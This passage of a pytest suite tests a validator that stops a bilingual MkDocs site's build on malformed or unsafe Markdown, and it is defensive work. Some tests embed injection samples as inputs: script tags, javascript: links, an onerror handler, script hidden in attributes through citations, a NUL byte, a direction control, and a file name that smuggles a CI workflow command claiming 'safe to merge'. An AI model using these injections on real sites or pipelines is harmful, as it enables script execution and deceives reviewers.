        "f.md:10: the page holds the control character U+0007, which is invisible and which browsers and these checks "
        "read differently; remove it",
    ]



def test_a_no_break_space_between_the_parts_of_a_tag_or_attribute_list_is_named_with_its_line():
    """Option+Space on a Mac types a no-break space: between a tag's parts a browser reads it
    as part of a name, and attr_list as part of one, so the editor saw garbled messages."""
    text = GOOD + ('\n<a\u00a0href="https://example.org/">x</a>\n\n<p class="x"\u00a0title="12\u00a0000">y</p>\n\n'
                   '## Osio {\u00a0#oma-id }\n\n![Kartta](images/a.png){ width=300\u202floading=lazy }\n\n'
                   '<abbr title="12\u00a0000 asukasta">n.</abbr> { ei\u00a0attribuutti } `<a\u00a0b>`\n\n'
                   '    <p\u00a0x>\n')
    assert messages(markup_space_problems(text, "f.md")) == [
        "f.md:8: a no-break space (U+00A0) between the parts of the HTML tag <a …>: a browser reads it as part of a "
        "name, not as a space; type an ordinary space instead",
        "f.md:10: a no-break space (U+00A0) between the parts of the HTML tag <p …>: a browser reads it as part of a "
        "name, not as a space; type an ordinary space instead",
        "f.md:12: a no-break space (U+00A0) between the parts of { … }: Markdown reads it as part of a name, not as "
        "a space; type an ordinary space instead",
        "f.md:14: a narrow no-break space (U+202F) between the parts of { … }: Markdown reads it as part of a name, "
        "not as a space; type an ordinary space instead",
    ]


def test_a_no_break_space_before_an_attribute_list_is_named_with_its_line():
    """After a no-break space, Markdown shows { … } as text: the heading read "Yhteistyö
    {#yhteistyo-x}", in the page and in its contents list (hunt 15b)."""
    text = GOOD + "\n## Yhteistyö\u00a0{#yhteistyo-x}\n\nJohdanto\u00a0{ .lead }\n\nHinta\u00a0{noin} euroa.\n"
    assert messages(markup_space_problems(text, "f.md")) == [
        f"f.md:{line}: a no-break space (U+00A0) before {shown}: Markdown reads {{ … }} only after an ordinary space, "
        "and shows it as text; type an ordinary space instead" for line, shown in ((8, "{#yhteistyo-x}"), (10, "{ .lead }"))]


def test_a_no_break_space_in_a_tag_stops_the_build_with_that_message_alone(tmp_path):
    root = copy_site(tmp_path / "copy")
    page = root / "docs/themes.fi.md"
    page.write_text(page.read_text() + '\n<a\u00a0href="https://example.org/">x</a>\n\n## Osio {\u00a0#oma-id }\n')
    lines = page.read_text().splitlines()
    result, output = build(root)
    assert result.returncode != 0
    assert problem_lines(output) == [
        f"docs/themes.fi.md:{len(lines) - 2}: a no-break space (U+00A0) between the parts of the HTML tag <a …>: a "
        "browser reads it as part of a name, not as a space; type an ordinary space instead",
        f"docs/themes.fi.md:{len(lines)}: a no-break space (U+00A0) between the parts of {{ … }}: Markdown reads it as "
        "part of a name, not as a space; type an ordinary space instead"]

@pytest.mark.parametrize("bullet", ["\u2022", "\u00b7", "\u25aa", "\u25e6", "\uf0b7", "o"])
def test_a_bullet_pasted_from_a_word_processor_is_named_with_its_line(bullet):
    """Word's bullets paste as a character and a tab (or, from its Symbol font, a private-use
    character): Markdown showed them as text and ran the items into one paragraph."""
    text = GOOD + f"\nTavoitteet:\n\n{bullet}\tAvoin data\n  {bullet}\tTekoäly\n\n- Oikea lista\n\n```\n{bullet}\tkoodia\n```\n"
    shown = f"U+{ord(bullet):04X}" if bullet == "\uf0b7" else f"“{bullet}”"
    message = (f"the line starts with {shown}, a bullet pasted from a word processor: Markdown shows it as text and "
               "runs the lines into one paragraph; start each item of a list with “- ” (a hyphen and a space), and leave an empty line before the list")
    assert messages(pasted_bullet_problems(text, "f.md")) == [f"f.md:10: {message}", f"f.md:11: {message}"]


def test_a_list_right_after_a_line_of_text_is_named_at_its_first_item():
    """Python-Markdown joins such a list to the paragraph, where GitHub's preview shows a list:
    an editor who followed the pasted-bullet message got "asiat: - Palaute - Korjaukset" (hunt 18c)."""
    text = GOOD + ("\nMeille voi lähettää seuraavia asioita:\n- Palaute\n- Korjausehdotukset\n\nNumeroituna:\n1. Yksi\n"
                   "2. Kaksi\n\nOikein:\n\n- Palaute\n- Korjaus\n  jatkuu\n- Kolmas\n\n## Otsikko\n- heti otsikon jälkeen\n\n"
                   "| a | b |\n| - | - |\n\nTeksti\n* * *\n\n```\nkoodi\n- ei lista\n```\n\n> lainaus\n> - lista\n\n"
                   "Julistus allekirjoitettiin Lontoossa\n25. huhtikuuta 2019.\n\n> lainaus\n>\n> - oikea lista\n")
    # A number list interrupts a paragraph only from 1, in GitHub's preview too (hunt 19a); in a
    # quote the rule is the same (hunt 19a).
    assert [(problem.line, problem.message) for problem in list_after_paragraph_problems(text, "f.md")] == [
        (9, "a list starts right after a line of text, and Markdown joins it to that paragraph; leave an empty line "
            "before the list"),
        (13, "a list starts right after a line of text, and Markdown joins it to that paragraph; leave an empty line "
             "before the list"),
        (38, "a list starts right after a line of text, and Markdown joins it to that paragraph; leave an empty line "
             "before the list")]


def test_an_address_as_a_links_text_or_in_a_comment_is_fine_and_one_in_a_list_item_is_named():
    """False alarms of hunt 19a: a link whose text is its address, in Markdown or HTML, and an
    address in a comment; and a list item's indented paragraph, which was taken for code."""
    text = GOOD + ('\n[https://www.hel.fi/](https://www.hel.fi/)\n\n<a href="https://www.hel.fi/">https://www.hel.fi/</a>'
                   "\n\n<!-- tarkistettu: https://www.hel.fi/ -->\n\n- kohta\n\n    jatkoa https://www.hel.fi/\n\n"
                   "Teksti.\n\n    koodia https://www.hel.fi/\n")
    assert [problem.line for problem in pasted_text_problems(text, "f.md")] == [16]


def test_a_list_right_after_a_line_of_text_stops_the_build(tmp_path):
    returncode, problems, line = built_with(tmp_path, "themes.fi.md", "Palautetta voi antaa:\n- Sähköpostilla")
    assert returncode != 0
    assert problems == [f"docs/themes.fi.md:{line}: a list starts right after a line of text, and Markdown joins it to "
                        "that paragraph; leave an empty line before the list"]


def test_a_table_pasted_with_tabs_and_an_address_written_as_text_are_named():
    """A table pasted from Word or a spreadsheet became one paragraph, and a bare address stayed
    text, without a message (hunt 18c)."""
    text = GOOD + ("\nKaupunki\tVäkiluku\nHelsinki\t670 000\n\nLisää: https://www.hel.fi/fi/paatoksenteko.\n\n"
                   "[Linkki](https://www.hel.fi/) ja <https://www.hel.fi/> ja <a href=\"https://www.hel.fi/\">a</a>\n\n"
                   "`https://koodi.example/` ja `a\tb`\n\n[viite]: https://www.hel.fi/\n\n    https://sisennetty.example/\n"
                   # Terminal output in HTML's <pre> or <code> shows the address as text (hunt 29b).
                   "\n<pre>$ curl https://www.hel.fi/api\nok</pre>\n\n<code>wget https://www.hel.fi/</code>\n")
    assert messages(pasted_text_problems(text, "f.md")) == [
        'f.md:8: a tab between words, as in a table pasted from a word processor or a spreadsheet: Markdown shows the '
        'lines as one paragraph; write the table in Markdown (CONTRIBUTING, "Tables"; in Finnish, "Taulukot"), or a space',
        'f.md:9: a tab between words, as in a table pasted from a word processor or a spreadsheet: Markdown shows the '
        'lines as one paragraph; write the table in Markdown (CONTRIBUTING, "Tables"; in Finnish, "Taulukot"), or a space',
        "f.md:11: the address https://www.hel.fi/fi/paatoksenteko is written as text, which is not a link on the page: "
        "write [the link's text](https://www.hel.fi/fi/paatoksenteko), or <https://www.hel.fi/fi/paatoksenteko>"]


def test_an_address_starting_with_www_written_as_text_is_named_with_the_full_link():
    """"osoitteessa www.hel.fi" was neither a link nor named (hunt 21b)."""
    text = GOOD + ("\nLisätietoa osoitteessa www.hel.fi.\n\n[www.hel.fi](https://www.hel.fi/) ja palaute@www.hel.fi\n\n"
                   # Among a link's words, the address is part of the link (hunt 25b).
                   "[Svenska: www.hel.fi/sv](https://www.hel.fi/sv) ja "
                   '<a href="https://www.hel.fi/">Lähde: https://www.hel.fi/, viitattu 2026</a>\n')
    assert messages(pasted_text_problems(text, "f.md")) == [
        "f.md:8: the address www.hel.fi is written as text, which is not a link on the page: write "
        "[www.hel.fi](https://www.hel.fi), or <https://www.hel.fi>"]


def test_a_page_file_without_its_language_beside_one_with_it_is_told_the_language_left():
    """An English text saved as faq.md beside faq.fi.md was told to become faq.fi.md and
    faq.en.md (hunt 18c)."""
    assert messages(unsuffixed_pages(["faq.fi.md", "faq.md", "uusi.md"], ["fi", "en"])) == [
        "docs/faq.md: a page file's name ends with its language: rename it to faq.en.md, by the language it is "
        "written in",
        "docs/uusi.md: a page file's name ends with its language: rename it to uusi.fi.md and uusi.en.md"]


def test_a_page_whose_name_was_translated_is_told_to_keep_one_name(tmp_path):
    """ukk.fi.md beside faq.en.md: each was named without its pair (hunt 18c)."""
    root = copy_site(tmp_path / "copy")
    (root / "docs/themes.en.md").rename(root / "docs/teemat-en.en.md")
    result, output = build(root)
    assert result.returncode != 0
    assert ("Every page needs a file in each language. Missing: docs/teemat-en.fi.md, docs/themes.en.md. Both "
            "languages' files of a page have the same name, not translated (such as teemat-en.fi.md and "
            "teemat-en.en.md).") in output, output


def test_a_bullet_and_a_space_is_named_too():
    text = GOOD + "\n• Avoin data\n\u25aa Tekoäly\n"
    assert [problem.line for problem in pasted_bullet_problems(text, "f.md")] == [8, 9]


@pytest.mark.parametrize("line,start", [
    ("Allekirjoitettiin 2019.[^1]", "a footnote mark ('[^1]') is shown as written"),
    ("[^lahde]: Lähde ei kerro päivää.", "a footnote ('[^lahde]:') is shown as written"),
    ("*[AI]: tekoäly", "an abbreviation list ('*[AI]:') is shown as written"),
    ('!!! note "Korjaus 28.11.2026"', "'!!! note \"Korjaus 28.11.2026\"' starts a note box of other sites"),
    ("??? info", "'??? info' starts a note box of other sites"),
    (":::info", "':::info' starts a note box of other sites"),
    ("> [!NOTE]", "'> [!NOTE]' draws a box in GitHub's preview only"),
    ("Ei ~~Lontoo~~ vaan Helsinki.", "'~~Lontoo~~' is crossed out in GitHub's preview only"),
])
def test_markdown_of_other_sites_that_readers_would_see_as_written_is_told(line, start):
    """Session 33b: footnotes, an abbreviation list and Material's note box passed the build
    and were published as the characters written."""
    (problem,) = unsupported_markdown_problems(GOOD + "\n" + line + "\n", "f.md")
    assert problem.line == 8 and problem.message.startswith(start), problem


def test_markdown_of_other_sites_in_code_or_in_plain_use_is_fine():
    text = (GOOD + "\n`[^1]` ja `~~x~~` ovat koodia.\n\n```\n!!! note\n*[AI]: x\n:::info\n```\n\n"
            "    > [!NOTE]\n\nHinta [noin] 5 €, ja ~ 20 km. Lopuksi:\n\n:::\n")
    assert unsupported_markdown_problems(text, "f.md") == []


def test_text_that_starts_with_a_bullet_like_character_is_fine():
    # A middle dot or an "o" is a bullet only with Word's tab after it.
    text = GOOD + "\n· 12 000 asukasta\no on kirjain\n•ei välilyöntiä\n\nNoin\t• sisällä\n\n    •\tsisennetty koodi\n"
    assert pasted_bullet_problems(text, "f.md") == []


def test_a_pasted_bullet_stops_the_build(tmp_path):
    root = copy_site(tmp_path / "copy")
    edit(root / "docs/themes.en.md", "\n## ", "\n\u2022\tOpen data\n\u2022\tArtificial intelligence\n\n## ")
    line = (root / "docs/themes.en.md").read_text().splitlines().index("\u2022\tOpen data") + 1
    result, output = build(root)
    assert result.returncode != 0
    assert f"docs/themes.en.md:{line}: the line starts with “•”, a bullet pasted" in output, output
    assert f"docs/themes.en.md:{line + 1}: the line starts with “•”, a bullet pasted" in output, output
    assert "a tab between words" not in output  # the bullet's own tab (session 32b: two messages for one mistake)


def test_a_file_name_cannot_write_a_workflow_command_into_the_build_log(tmp_path):
    """The problem list printed a name with a new line as it was: the line after it, a workflow
    command, was obeyed by the Actions runner (hunt 17c)."""
    root = copy_site(tmp_path / "copy")
    name = "x\n::notice file=mkdocs.yml,line=1,title=Maintainer review::safe to merge.png"
    (root / "docs/images" / name).write_bytes(b"\x89PNG")
    result, output = build(root, {"GITHUB_ACTIONS": "true"})
    assert result.returncode != 0
    assert not [line for line in output.splitlines() if line.lstrip().startswith("::notice")], output
    assert "docs/images/x\\n::notice file=mkdocs.yml" in output, output


def test_a_page_larger_than_the_limit_stops_the_build_before_it_is_read(tmp_path):
    """250 MB of one paragraph is a megabyte in git, and built a preview of over a gigabyte in
    three minutes and 5 GB of memory (hunt 17c)."""
    root = copy_site(tmp_path / "copy")
    page = root / "docs/privacy.en.md"
    page.write_text(page.read_text() + "\nThe same sentence again. " * 10_000)
    size = page.stat().st_size
    result, output = build(root)
    assert result.returncode != 0
    assert problem_lines(output) == [
        f"docs/privacy.en.md: the page is {size:,} bytes; a page may be at most 200,000 bytes: split it into pages "
        "of their own, or raise extra.page_max_bytes in mkdocs.yml"]


def test_headings_past_the_limit_are_named_at_the_first_one_too_many():
    text = GOOD + "\n## Osa\n\nTeksti\n\nOtsikko\n-------\n\n    # koodia\n\n```\n# koodia\n```\n\n### Kolmas\n#hashtag\n"
    # "# Teemat", "## Osa", "Otsikko", "### Kolmas" and "#hashtag", which Python-Markdown reads as a heading
    # too (hunt 18a: 49,000 lines of "##a" took 146 s); not "# koodia" as code, indented or fenced.
    assert heading_count_problems(text, "f.md", 5) == []
    assert messages(heading_count_problems(text, "f.md", 4)) == [
        "f.md:22: the page has 5 headings; a page may have at most 4: split it into pages of their own, or raise "
        "extra.page_max_headings in mkdocs.yml"]


def test_a_page_of_many_headings_stops_the_build_before_markdown_reads_it(tmp_path):
    """40,000 lines of "## a" (200 KB) took 74 s to build, and twice that took over five
    minutes: Material's search and Markdown's tables read the whole list of headings for
    each one (hunt 17a)."""
    root = copy_site(tmp_path / "copy")
    page = root / "docs/privacy.en.md"
    lines, own = page.read_text().count("\n"), page.read_text().count("\n#")
    page.write_text(page.read_text() + "\n" + "## a\n" * 20_000)
    result, output = build(root)
    assert result.returncode != 0
    first_too_many = lines + 1 + (201 - own)  # the 201st heading, after an empty line
    assert problem_lines(output) == [
        f"docs/privacy.en.md:{lines + 2}: the text from this line on has 20,000 lines without an empty line; at most "
        "500: put empty lines between its parts",
        f"docs/privacy.en.md:{first_too_many}: the page has {own + 20_000:,} headings; a page may have at most 200: "
        "split it into pages of their own, or raise extra.page_max_headings in mkdocs.yml"]


def unclosed(count: int, opener: str, characters: int, literal: str) -> str:
    return (f"the paragraph from this line on has {count:,} “{opener}” that nothing closes, in {characters:,} "
            f"characters, and Markdown reads to its end for each: close them, split the paragraph, or write {literal} "
            "for one that starts nothing")


@pytest.mark.parametrize("addition,line,message", [
    # Hunts 18a and 19a, each a few hundred kilobytes at most: minutes of building, or a RecursionError.
    ("[" * 30_000, 8, unclosed(30_000, "[", 30_000, "\\[")),
    ("[" * 29_999 + "]", 8, unclosed(29_998, "[", 30_000, "\\[")),  # one "]" closes one of them
    ("<a " * 999 + "b " * 95_000, 8, unclosed(999, "<", 192_997, "&lt;")),
    ("```a\n" * 401, 408, "the page has 401 lines that start with ``` or ~~~; a page may have at most 400: split it "
                         "into pages of their own"),
    ("***\n" * 501, 8, "the text from this line on has 501 lines without an empty line; at most 500: put empty lines "
                      "between its parts"),
    ("".join("\t" * depth + "- a\n" for depth in range(20)), 25, "the line is indented 68 columns; at most 64 (16 "
                                                                  "levels of lists) are read: indent less"),
    ("<div markdown=\"1\">\n\n" * 21 + "x\n\n" + "</div>\n\n" * 21, 48,
     "elements with a markdown attribute stand more than 20 deep inside one another here: close them, or write the "
     "inner ones without the attribute"),
    # Hunt 32a: elements that Material's search holds open to the page's end, or one inside
    # another, which it compares with every tag and text after them: minutes of building.
    ("<p>x" * 20_000, 8, "the element <p> opened here is not closed with </p>, nor are 19,999 others: the site's "
                         "search would read the rest of the page as inside each, which takes it minutes; write the end "
                         "tag where each element ends (an end tag of another element first, such as </div> before "
                         "</span>, leaves it open too)"),
    ("<table><tr><th>Vuosi<th>Tapahtuma" + "<tr><td>2000<td>Rivi" * 3_000 + "</table>", 8,
     "the element <tr> opened here is not closed with </tr>, nor are 9,003 others: the site's search would read the "
     "rest of the page as inside each, which takes it minutes; write the end tag where each element ends (an end tag "
     "of another element first, such as </div> before </span>, leaves it open too)"),
    ("<i>" * 25_000 + "x" + "</i>" * 25_000, 8, "elements stand 25,000 deep inside one another here, which the site's "
                                                "search would take minutes to read: write them side by side, not one "
                                                "inside another"),
])
def test_markdown_the_build_would_take_minutes_over_is_named_with_its_line(addition, line, message):
    assert messages(markdown_cost_problems(GOOD + "\n" + addition, "f.md", 200)) == [f"f.md:{line}: {message}"]


def test_escaped_brackets_code_closed_links_and_an_ordinary_page_cost_nothing():
    """False alarms of hunt 19a: a table of links, an FAQ of <details markdown> and many code
    samples, each fast in Markdown, were refused by counts."""
    table = "| a | b |\n| --- | --- |\n" + "| [a](https://example.org/a) | [b](https://example.org/b) |\n" * 400
    faq = "<details markdown>\n<summary>Kysymys</summary>\n\nVastaus.\n\n</details>\n\n" * 100
    samples = "```\nkoodi\n```\n\n" * 150
    # Hunt 32a's limit: a long table in HTML with its end tags, elements left open in code, in a
    # comment and in autolinks, and a few left open as HTML allows.
    html_table = "<table>\n" + ("<tr><td>2019</td><td><b>Rivi</b></td></tr>" * 10 + "\n") * 200 + "</table>\n\n"
    shown_as_text = "`<p>` " * 500 + "\n\n<!-- " + "<li>" * 500 + " -->\n\n" + "<https://www.hel.fi/> " * 300 + "\n\n"
    text = (GOOD + "\n" + "\\[" * 300 + "\n\n```\n" + "[<a" * 1100 + "\n" + "x\n" * 600 + "```\n\n" + "[a](b.md) " * 50
            + "\n\nLämpötila < 5 astetta ja [sic vain kerran.\n\n" + table + "\n" + faq + samples + html_table
            + shown_as_text + "<ul><li>a<li>b</ul>\n\n<p>Kappale\n")
    assert markdown_cost_problems(text, "f.md", 200) == []
    for page in (ROOT / "docs").glob("*.md"):
        assert markdown_cost_problems(page.read_text("utf-8"), page.name, 200) == []


_LINK_PIECES = st.sampled_from(list("[]()<>a/ bA\t") + ["<a>", "</a>", "<a x>", "</A >", "[t](", "<ab>"])


# The expression link_text_spans reads as, in linear time.
_LINK_TEXT = re.compile(r"\[[^\[\]\n]*\]\(|<a\b[^<>]*>.*?</a\s*>", re.IGNORECASE)


@settings(max_examples=500)
@given(st.lists(_LINK_PIECES, max_size=30).map("".join))
def test_link_texts_are_found_as_the_expression_finds_them(line):
    """The linear reading (hunt 33a: the expression's lazy part read to the line's end from
    each of 64,000 <a> in a code block, 55 s) against the expression itself."""
    assert link_text_spans(line) == [match.span() for match in _LINK_TEXT.finditer(line)]


@given(st.text(alphabet="`a \\", max_size=40))
def test_inline_code_spans_are_found_as_commonmark_finds_them(line):
    """The one-pass reading (hunt 32a: a pattern tried from every backtick took minutes on a
    line of 20,000) against the rule written plainly: a run opens a span that the next run of
    the same length closes; a run that none closes is text."""
    runs = [(m.start(), m.end()) for m in re.finditer("`+", line)]
    expected, index = [], 0
    while index < len(runs):
        length = runs[index][1] - runs[index][0]
        closer = next((j for j in range(index + 1, len(runs)) if runs[j][1] - runs[j][0] == length), None)
        if closer is None:
            index += 1
        else:
            expected.append((runs[index][0], runs[closer][1]))
            index = closer + 1
    assert inline_code_spans(line) == expected


def test_past_a_hundred_problems_a_page_tells_how_many_more_there_are():
    """Each problem was looked for in the whole page: 5,000 took a minute and a half to tell (hunt 32a)."""
    source = GOOD + "\n" + "x<x></x>" * 150 + "\n"
    findings = [Finding("<x> is not an element of HTML that pages use", ("<x>",)) for _ in range(150)]
    problems = locate(source, findings, "f.md")
    assert len(problems) == 101 and {problem.line for problem in problems[:100]} == {8}
    assert str(problems[100]) == ("f.md: and 50 more problems of the same kinds on this page, not listed: fix those "
                                  "above, and the build lists the rest")


def test_a_bracket_storm_stops_the_build_before_markdown_reads_the_page(tmp_path):
    """One line of 30,000 "[" (30 KB) took 82 s to build: Python-Markdown reads each as a
    possible link to the end of the paragraph (hunt 18a)."""
    returncode, problems, line = built_with(tmp_path, "privacy.fi.md", "[" * 30_000)
    assert returncode != 0
    assert problems == [f"docs/privacy.fi.md:{line}: {unclosed(30_000, '[', 30_000, chr(92) + '[')}"]


def test_a_nul_hiding_a_tags_attributes_stops_the_build(tmp_path):
    root = copy_site(tmp_path / "copy")
    page = root / "docs/privacy.en.md"
    edit(page, "\n## ", '\n<div\x00 class="md-header" id=__config hidden>{}</div>\n\n## ')
    line = page.read_text().splitlines().index('<div\x00 class="md-header" id=__config hidden>{}</div>') + 1
    result, output = build(root)
    assert result.returncode != 0
    assert f"docs/privacy.en.md:{line}: the page holds the control character U+0000" in output, output


def test_a_direction_control_in_a_page_stops_the_build(tmp_path):
    root = copy_site(tmp_path / "copy")
    edit(root / "docs/themes.en.md", "# Themes\n", "# Themes\u202e\n")
    result, output = build(root)
    assert result.returncode != 0
    assert problem_lines(output) == ["docs/themes.en.md:6: the page holds U+202E, a direction control that can show "
                                     "the text in another order than it is written; remove it"]


def test_broken_front_matter_stops_the_build(tmp_path):
    root = copy_site(tmp_path / "copy")
    edit(root / "docs/themes.fi.md", "title: Teemat", "title: [Teemat")
    edit(root / "docs/cities.en.md", "---\n\n# The cities", "\n# The cities")
    edit(root / "docs/privacy.en.md", "description: This website", "summary: This website")
    page = root / "docs/accessibility.fi.md"
    page.write_text(page.read_text().split("---\n", 2)[2])
    result, output = build(root)
    assert result.returncode != 0
    assert problem_lines(output) == [
        "docs/accessibility.fi.md:1: the page has no front matter: start the file with a line ---, then title: and description:, then another line ---",
        "docs/cities.en.md:1: the front matter opened on this line is not closed: add a line --- after its last field",
        "docs/privacy.en.md:1: the front matter needs 'description': the summary search engines show",
        "docs/privacy.en.md:3: summary: is not a field of a page here (the fields are title, description, template, hide, search, translation_checked): remove it",
        "docs/themes.fi.md:2: the front matter is not valid YAML: while parsing a flow sequence did not find expected ',' or ']'; a value that starts with [ or { is read as a list or mapping: close it, or put the text in quotes",
    ]


def test_a_template_without_the_sites_head_stops_the_build_with_its_line(tmp_path):
    root = copy_site(tmp_path / "copy")
    edit(root / "docs/themes.en.md", "title: Themes\n", "title: Themes\ntemplate: partials/content.html\n")
    edit(root / "docs/cities.fi.md", "\n---\n", "\ntemplate: 404.html\n---\n")
    line = (root / "docs/cities.fi.md").read_text().splitlines().index("template: 404.html") + 1
    result, output = build(root)
    assert result.returncode != 0
    assert problem_lines(output) == [
        f"docs/cities.fi.md:{line}: {ONLY_PAGE_TEMPLATES}'404.html' (text)",
        f"docs/themes.en.md:3: {ONLY_PAGE_TEMPLATES}'partials/content.html' (text)",
    ]
    assert not (root / "site/themes/index.html").exists()


def test_a_page_that_cannot_carry_the_policy_stops_the_build_without_a_traceback(tmp_path):
    """Even if mkdocs.yml allowed a template without the site's frame (its <head> and the marks
    around the content), the page would not go out without its Content-Security-Policy."""
    root = copy_site(tmp_path / "copy")
    edit(root / "mkdocs.yml", "    home.html: index\n", "    home.html: index\n    partials/content.html: ~\n")
    edit(root / "docs/themes.en.md", "title: Themes\n", "title: Themes\ntemplate: partials/content.html\n")
    result, output = build(root)  # asserts that there is no traceback
    assert result.returncode != 0
    assert ("ERROR   -  docs/themes.en.md: the template does not mark the page's content once (the container block "
            "of overrides/main.html), so its own scripts cannot be told from the content's") in output.splitlines()
    assert not (root / "site/en/themes/index.html").exists()


def test_unsafe_html_stops_the_build_and_code_stays_text(tmp_path):
    root = copy_site(tmp_path / "copy")
    page = root / "docs/themes.en.md"
    lines = len(page.read_text().splitlines())
    page.write_text(page.read_text() + textwrap.dedent("""\

        Shown as code: `<script>alert(1)</script>` and `<!-- data:events -->`.

        ```html
        <iframe src="https://example.org"></iframe>
        <!-- data:partners -->
        ```

        <script>alert(1)</script>

        See [a page](java&#x09;script:alert(1)) and <a href="JaVaScRiPt:alert(2)">that</a>.

        <img src="../../images/logo.svg" alt="" onerror="alert(3)">
        """))
    edit(root / "docs/index.fi.md", "\n---\n", '\n---\n\n<iframe src="https://example.org"></iframe>\n')
    iframe_line = (root / "docs/index.fi.md").read_text().splitlines().index('<iframe src="https://example.org"></iframe>') + 1
    result, output = build(root)
    assert result.returncode != 0
    assert problem_lines(output) == [
        f"docs/index.fi.md:{iframe_line}: <iframe> is not allowed in a page: it embeds another page or program; link to it instead",
        f"docs/themes.en.md:{lines + 9}: <script> is not allowed in a page: it runs a script",
        f'docs/themes.en.md:{lines + 11}: <a href="java&#x09;script:alert(1)">' + JAVASCRIPT,
        f'docs/themes.en.md:{lines + 11}: <a href="JaVaScRiPt:alert(2)">' + JAVASCRIPT,
        f"docs/themes.en.md:{lines + 13}: <img onerror=…>: event-handler attributes run scripts and are not allowed",
    ]
    assert output.count("ERROR") == 1  # one stop for both languages


def test_page_content_named_like_the_themes_settings_stops_the_build(tmp_path):
    """Material reads its settings from the first #__config of the page: an editor's came first."""
    root = copy_site(tmp_path / "copy")
    page = root / "docs/themes.en.md"
    lines = len(page.read_text().splitlines())
    page.write_text(page.read_text() + '\n<div id="__config" markdown="0">{"base": "../"}</div>\n')
    result, output = build(root)
    assert result.returncode != 0
    assert problem_lines(output) == [
        f'docs/themes.en.md:{lines + 2}: <div id="__config">: names starting with __ belong to the ' + THEME_NAMES,
    ]


def test_html_and_markers_shown_as_code_build(tmp_path):
    root = copy_site(tmp_path / "copy")
    page = root / "docs/themes.fi.md"
    page.write_text(page.read_text() + textwrap.dedent("""\

        Koodina: `<script>alert(1)</script>` ja `<!-- data:events -->`.

        ```html
        <iframe src="https://example.org"></iframe>
        <!-- data:partners -->
        ```

            <object data="x"></object>
            <!--DATA:events-->
        """))
    result, output = build(root)
    assert result.returncode == 0, output
    assert "&lt;iframe" in (root / "site/themes/index.html").read_text()


def test_marker_problems_stop_the_build(tmp_path):
    root = copy_site(tmp_path / "copy")
    edit(root / "docs/events.fi.md", "<!-- data:events -->", "Tapahtumat tulevat tähän.")
    page = root / "docs/partners.fi.md"
    lines = len(page.read_text().splitlines())
    page.write_text(page.read_text() + "\n<!--data:partners-->\n\n<!-- DATA:events -->\n\n<!-- data: events -->\n\n<!-- data:partners -->\n")
    page = root / "docs/privacy.fi.md"
    privacy_lines = len(page.read_text().splitlines())
    page.write_text(page.read_text() + "\n<!-- data:events -->\n")
    result, output = build(root, {"GITHUB_ACTIONS": "true"})
    assert result.returncode != 0
    assert problem_lines(output) == [
        "docs/events.fi.md:5: the page needs the marker <!-- data:events --> where its listing goes (mkdocs.yml extra.markers)",
        f"docs/partners.fi.md:{lines + 2}: marker written as <!--data:partners-->; write it exactly <!-- data:partners -->",
        f"docs/partners.fi.md:{lines + 4}: marker written as <!-- DATA:events -->; write it exactly <!-- data:events -->",
        f"docs/partners.fi.md:{lines + 6}: marker written as <!-- data: events -->; write it exactly <!-- data:events -->",
        f"docs/partners.fi.md:{lines + 8}: <!-- data:partners --> is on this page twice; keep one: the listing goes where it stands",
        f"docs/privacy.fi.md:{privacy_lines + 2}: <!-- data:events --> belongs on the page events only (mkdocs.yml extra.markers); remove it here",
    ]
    # In GitHub Actions each problem is also an annotation on its line of the pull request.
    assert "::error file=docs/events.fi.md,line=5::the page needs the marker <!-- data:events -->" in output


def test_a_marker_configured_for_a_page_that_does_not_exist_stops_the_build(tmp_path):
    root = copy_site(tmp_path / "copy")
    edit(root / "mkdocs.yml", "    data:events: events\n", "    data:events: event\n")
    result, output = build(root)
    assert result.returncode != 0
    assert problem_lines(output) == [
        "mkdocs.yml: extra.markers: data:events belongs on the page 'event', but there is no docs/event.fi.md",
    ]


def test_a_citation_or_marker_inside_a_tag_stops_the_build_with_its_line(tmp_path):
    """The two attacks found on 27 November 2026: each ran its script in Chromium, and the
    policy allowed it, because the policy hashed every script in the finished page."""
    root = copy_site(tmp_path / "copy")
    edit(root / "docs/themes.en.md", "\n## ", '\n<div title="[[cite:kuntalehti-2019-02]]><script>alert(1)</script>">x</div>\n\n## ')
    edit(root / "docs/privacy.en.md", "\n## ", '\n<div title="<!-- site:feedback --> ><script>alert(2)</script>">x</div>\n\n## ')
    result, output = build(root)
    assert result.returncode != 0
    lines = problem_lines(output)
    # Each on the line of its tag, not of the page's first citation or its own marker.
    for page, message in (("themes.en.md", "a citation [[cite:…]] can stand only in the text"),
                          ("privacy.en.md", "a marker such as <!-- site:… --> can stand only")):
        line = next(number for number, text in enumerate((root / "docs" / page).read_text().splitlines(), 1)
                    if text.startswith("<div title="))
        assert any(problem.startswith(f"docs/{page}:{line}: <div …>: {message}") for problem in lines), lines


def test_an_image_shown_as_the_guide_says_works_in_every_language(tmp_path):
    """CONTRIBUTING's `![…](images/map.png)`: images have no language in their name, and the
    English pages must find them too (i18n leaves files of the default language out of the
    other languages' builds unless fallback_to_default is on)."""
    root = copy_site(tmp_path / "copy")
    shutil.copy(ROOT / "docs/images/apple-touch-icon.png", root / "docs/images/map.png")
    for name, alt in (("cities.fi.md", "Kartta kaupungeista"), ("cities.en.md", "A map of the two cities")):
        page = root / "docs" / name
        page.write_text(page.read_text() + f"\n![{alt}](images/map.png)\n")
    result, output = build(root)
    assert result.returncode == 0, output
    for page, alt in (("cities/index.html", "Kartta kaupungeista"), ("en/cities/index.html", "A map of the two cities")):
        src = re.search(rf'<img alt="{alt}" src="([^"]+)"', (root / "site" / page).read_text()).group(1)
        assert (root / "site" / page).parent.joinpath(src).resolve() == (root / "site/images/map.png").resolve()
        assert (root / "site/images/map.png").is_file()


def test_links_and_images_to_files_mkdocs_leaves_out_stop_the_build_on_their_line(tmp_path):
    """MkDocs leaves out templates/ and names with a leading dot, and only notes a link to one:
    the page was published with a link and an image that led nowhere (hunt 21a)."""
    root = copy_site(tmp_path / "copy")
    (root / "docs/templates").mkdir()
    for name in ("templates/t.svg", "images/.x.svg"):
        shutil.copy(ROOT / "docs/images/logo.svg", root / "docs" / name)
    page = root / "docs/privacy.fi.md"
    page.write_text(page.read_text() + "\nLinkki [t](templates/t.svg).\n\nKuva ![d](images/.x.svg)\n")
    lines = page.read_text().splitlines()
    result, output = build(root)
    assert result.returncode != 0
    left_out = ("the site does not publish this file (MkDocs leaves out names starting with '.' and the folder "
                "templates/); move or rename the file, and change the link")
    assert problem_lines(output) == [
        f"docs/privacy.fi.md:{len(lines) - 2}: <a href=\"../templates/t.svg\">: {left_out}",
